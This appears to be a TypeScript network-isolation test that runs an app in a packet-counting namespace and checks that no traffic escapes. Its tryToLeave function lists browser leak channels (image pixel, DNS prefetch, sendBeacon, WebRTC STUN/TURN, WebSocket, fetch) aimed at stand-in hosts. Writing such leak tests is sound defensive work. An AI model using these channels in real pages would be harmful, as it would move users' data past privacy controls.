/**
 * A day with the app in a network namespace of its own, where every packet that leaves is counted. Prints what the
 * kernel counted before, after the day, after the page had tried by itself, and after ordinary programs had.
 */
import { lookup } from 'node:dns/promises';
import { findBrowser } from '#main/host/chromium/find-browser.ts';
import { chromium, type Page } from 'playwright';
import { printReport } from '#tests/support/journey/finish.ts';
import { assessor, firstRun } from '#tests/support/journey/first-run.ts';
import { passphrase } from '#tests/support/test-app.ts';
import { readCounters } from './network-counters.ts';
import { newStage, openWindow, powerCut, removeAll } from './stage.ts';
import { openWorkbench, waitForEvidence } from './workbench.ts';

const [way = ''] = process.argv.slice(2);
const nothing = async () => undefined;

/** Runs in the page: what a script that got in would try. */
async function tryToLeave(): Promise<void> {
  const image = new Image();
  image.src = 'http://192.0.2.1/pixel.png';
  const link = document.createElement('link');
  Object.assign(link, { rel: 'dns-prefetch', href: '//leak.example.org' });
  document.head.append(link);
  navigator.sendBeacon('http://192.0.2.1/beacon', 'x');
  const servers = [
    { urls: 'stun:192.0.2.1:3478' },
    { urls: 'turn:192.0.2.1:3478?transport=tcp', username: 'a', credential: 'b' },
  ];
  const peer = new RTCPeerConnection({ iceServers: servers });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  try {
    new WebSocket('ws://192.0.2.1/');
  } catch {
    // The page's policy refuses at once.
  }
  await fetch('http://192.0.2.1/').catch(() => undefined);
  await new Promise((resolve) => setTimeout(resolve, 2_000));
}

async function day(page: Page, downloads: string): Promise<void> {
  await firstRun(page, assessor, passphrase, nothing);
  await page.getByRole('button', { name: 'ลองใช้กับข้อมูลตัวอย่าง' }).click();
  await openWorkbench(page, 'ธาราบุรี');
  await waitForEvidence(page);
  await page.keyboard.press('c');
  await page.locator('[data-durable=saved]').waitFor();
  await printReport(page, downloads, nothing);
}

/** Ordinary programs in the same place: what they send must have been seen. */
async function control(): Promise<void> {
  for (const address of ['http://192.0.2.1/', 'http://[2001:db8::1]/'])
    await fetch(address, { signal: AbortSignal.timeout(500) }).catch(() => undefined);
  await Promise.race([lookup('control.example.org').catch(() => undefined), new Promise((r) => setTimeout(r, 1_000))]);
  const executablePath = findBrowser();
  const browser = await chromium.launch({ ...(executablePath !== null && { executablePath }), args: ['--no-sandbox'] });
  await (await browser.newPage()).goto('http://192.0.2.2/', { timeout: 5_000 }).catch(() => undefined);
  await browser.close();
}

try {
  const before = readCounters(way);
  const stage = await newStage('new');
  const app = await openWindow(stage);
  await day(app.page, stage.downloads);
  const afterDay = readCounters(way);
  await app.page.evaluate(tryToLeave);
  const afterTrying = readCounters(way);
  await powerCut(app);
  await control();
  const afterControl = readCounters(way);
  process.stdout.write(`counted ${JSON.stringify({ before, afterDay, afterTrying, afterControl })}\n`);
} finally {
  await removeAll();
}
process.exit(0);
